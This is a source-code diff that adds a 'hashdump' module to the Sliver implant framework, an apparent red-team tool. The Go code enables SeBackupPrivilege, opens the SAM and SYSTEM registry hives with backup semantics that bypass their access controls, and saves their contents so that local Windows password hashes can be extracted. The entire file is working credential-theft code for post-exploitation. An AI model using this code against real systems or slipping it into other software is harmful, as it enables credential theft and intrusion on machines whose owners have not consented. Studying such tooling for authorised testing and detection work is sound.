@@ -0,0 +1,73 @@
+package hashdump
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/priv"
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+// collect - Save the SAM and SYSTEM hives, requires SeBackupPrivilege (administrators)
+func collect() (map[string][]byte, error) {
+	err := priv.SePrivEnable("SeBackupPrivilege")
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("[hashdump] failed to enable SeBackupPrivilege: %s", err)
+		// {{end}}
+	}
+	tmpDir, err := ioutil.TempDir("", "")
+	if err != nil {
+		return nil, err
+	}
+	defer os.RemoveAll(tmpDir)
+	files := map[string][]byte{}
+	for _, name := range []string{"SAM", "SYSTEM"} {
+		files[name], err = saveHive(name, filepath.Join(tmpDir, name))
+		if err != nil {
+			return nil, err
+		}
+	}
+	return files, nil
+}
+
+func saveHive(name string, path string) ([]byte, error) {
+	var key windows.Handle
+	var disposition uint32
+	// Backup semantics bypass the key's DACL, which SYSTEM only can read
+	err := syscalls.RegCreateKeyEx(windows.HKEY_LOCAL_MACHINE, windows.StringToUTF16Ptr(name), 0, nil,
+		syscalls.REG_OPTION_BACKUP_RESTORE, 0, nil, &key, &disposition)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.RegCloseKey(key)
+	err = syscalls.RegSaveKeyEx(key, windows.StringToUTF16Ptr(path), nil, syscalls.REG_LATEST_FORMAT)
+	if err != nil {
+		return nil, err
+	}
+	return ioutil.ReadFile(path)
+}